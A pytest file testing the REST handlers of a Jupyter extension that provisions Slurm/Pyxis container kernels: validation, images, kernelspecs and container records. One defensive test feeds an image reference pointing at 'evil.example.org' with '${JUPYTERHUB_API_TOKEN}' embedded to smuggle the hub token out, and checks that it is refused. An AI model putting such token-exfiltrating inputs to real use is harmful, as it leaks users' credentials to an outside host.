"""The REST handlers in process, through pytest-jupyter's jp_fetch: fast checks of what each answers and how it
refuses, beside the real-cluster tests that go through a running server (test_server_api.py)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from tornado.httpclient import HTTPClientError

from jupyter_asgard.kernel.container_places import ContainerPlace, ContainerPlaces
from jupyter_asgard.kernel.kernelspec_store import KernelspecStore

pytest_plugins = ["pytest_jupyter.jupyter_server"]


@pytest.fixture
def jp_server_config(tmp_path: Path) -> dict[str, Any]:
    images = tmp_path / "images"
    images.mkdir()
    (images / "nvcr.io_nvidia_pytorch_23.12-py3.sqsh").write_bytes(b"hsqs")
    return {
        "ServerApp": {"jpserver_extensions": {"jupyter_asgard": True}},
        "AsgardSite": {"image_dirs": [str(images)], "registry_images": []},
        "PyxisProvisioner": {
            "max_gpus": 2,
            "mounts": ["/ds:/ds:ro"],
            "check_paths": False,
            "expandable_variables": ["ASGARD_TEST_PROJECT"],
        },
    }


async def fetch_json(jp_fetch: Any, *path: str, **kwargs: Any) -> Any:
    return json.loads((await jp_fetch("asgard", "api", *path, **kwargs)).body)


async def refused(jp_fetch: Any, *path: str, **kwargs: Any) -> tuple[int, dict[str, Any]]:
    with pytest.raises(HTTPClientError) as raised:
        await jp_fetch("asgard", "api", *path, **kwargs)
    assert raised.value.response is not None
    return raised.value.code, json.loads(raised.value.response.body)


async def test_config_is_the_sites_defaults_and_limits(jp_fetch: Any) -> None:
    answer = await fetch_json(jp_fetch, "config")
    assert answer["limits"] == {"max_gpus": 2, "allowed_partitions": []}
    assert answer["defaults"]["mounts"] == ["/ds:/ds:ro"]
    assert "image" in answer["schema"]["properties"]


async def test_images_are_listed_from_the_sites_directories(jp_fetch: Any, tmp_path: Path) -> None:
    answer = await fetch_json(jp_fetch, "images")
    assert [image["path"] for image in answer["images"]] == [
        str(tmp_path / "images" / "nvcr.io_nvidia_pytorch_23.12-py3.sqsh")
    ]


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"{not json", "the request body is not JSON"),
        (b"[1, 2]", "must be a JSON object"),
        (
            json.dumps({"image": "/enroot/x.sqsh", "gpus": 3}).encode(),
            "3 GPUs requested but this site allows at most 2",
        ),
        (json.dumps({"image": "podman://ubuntu"}).encode(), "Pyxis does not take podman:// images"),
    ],
)
async def test_validate_refuses_with_the_problem_named(jp_fetch: Any, body: bytes, words: str) -> None:
    status, answer = await refused(jp_fetch, "validate", method="POST", body=body)
    assert status == 400
    assert any(words in problem for problem in answer["problems"]), answer


async def test_validate_names_a_variable_the_site_does_not_list_and_never_shows_its_value(
    jp_fetch: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = "hub-token-5e1f"
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", secret)
    monkeypatch.setenv("ASGARD_TEST_PROJECT", "vision")
    body = {
        "image": "docker://evil.example.org#x/${JUPYTERHUB_API_TOKEN}:latest",
        "mounts": ["/netscratch/$JUPYTERHUB_API_TOKEN:/data"],
        "workdir": "/w/$ASGARD_TEST_PROJECT",  # listed by the site: expanded, no problem
    }
    status, answer = await refused(jp_fetch, "validate", method="POST", body=json.dumps(body).encode())
    assert status == 400
    unlisted = [problem for problem in answer["problems"] if "$JUPYTERHUB_API_TOKEN is not a variable" in problem]
    assert len(unlisted) == 2 and all("c.PyxisProvisioner.expandable_variables" in p for p in unlisted), answer
    assert not [problem for problem in answer["problems"] if "ASGARD_TEST_PROJECT" in problem], answer
    assert secret not in json.dumps(answer)


async def test_no_kernels_no_jobs_and_a_monitor_that_does_not_poll(jp_fetch: Any) -> None:
    assert (await fetch_json(jp_fetch, "kernels"))["kernels"] == []
    monitor = await fetch_json(jp_fetch, "monitor")
    assert (monitor["watched_jobs"], monitor["listeners"], monitor["polling"]) == (0, 0, False)
    status, answer = await refused(jp_fetch, "kernels", "no-such-kernel")
    assert status == 404 and answer["message"]


async def test_a_kernelspec_is_not_saved_unchecked_while_slurm_cannot_be_asked(
    jp_fetch: Any, jp_data_dir: Path
) -> None:
    """No Slurm here: partitions and GPUs cannot be checked, so the kernelspec is refused, saying why."""
    body = json.dumps({"display_name": "Mine", "config": {"image": "/enroot/x.sqsh", "gpus": 1}}).encode()
    status, answer = await refused(jp_fetch, "kernelspecs", "mine", method="PUT", body=body)
    assert status == 400
    assert any("cannot check partition and GPUs: Slurm is unreachable" in problem for problem in answer["problems"])
    assert not (jp_data_dir / "kernels" / "mine").exists()


async def test_a_users_kernelspec_is_listed_read_and_deleted(jp_fetch: Any, jp_data_dir: Path) -> None:
    KernelspecStore(kernels_dir=jp_data_dir / "kernels").write("mine", "Mine", {"image": "/enroot/x.sqsh"})
    assert [spec["name"] for spec in (await fetch_json(jp_fetch, "kernelspecs"))["kernelspecs"]] == ["mine"]
    assert (await fetch_json(jp_fetch, "kernelspecs", "mine"))["display_name"] == "Mine"
    await jp_fetch("asgard", "api", "kernelspecs", "mine", method="DELETE")
    status, answer = await refused(jp_fetch, "kernelspecs", "mine")
    assert (status, answer["message"]) == (404, "no kernelspec named 'mine'")


async def test_containers_are_listed_from_the_user_s_record_and_a_removal_not_possible_is_refused_before_any_job(
    jp_fetch: Any, jp_data_dir: Path
) -> None:
    record = ContainerPlaces(lambda: jp_data_dir / "asgard" / "containers")
    record.seen(ContainerPlace("env", "gpu02", "/enroot/pt.sqsh", True, "gpu"), True)
    [entry] = (await fetch_json(jp_fetch, "containers"))["containers"]
    assert (entry["name"], entry["nodes"], entry["image"], entry["writable"], entry["kernels"]) == (
        "env",
        ["gpu02"],
        "/enroot/pt.sqsh",
        True,
        [],  # no kernel of this server runs in it
    )
    assert entry["places"][0]["partition"] == "gpu" and entry["last_use"] == entry["places"][0]["created"]
    status, body = await refused(jp_fetch, "containers", "env:no_exec", method="DELETE")
    assert status == 400 and "'env:no_exec' is not a container's name" in body["message"]
    status, body = await refused(jp_fetch, "containers", "nothing", method="DELETE")
    assert status == 404 and "no container 'nothing' of yours is recorded" in body["message"] and body["hint"]
    status, body = await refused(jp_fetch, "containers", "env", method="DELETE", params={"node": "gpu01"})
    assert (status, body["message"]) == (404, "your container env is not recorded on gpu01: it is on gpu02")
    assert [place.node for place in record.places()] == ["gpu02"]
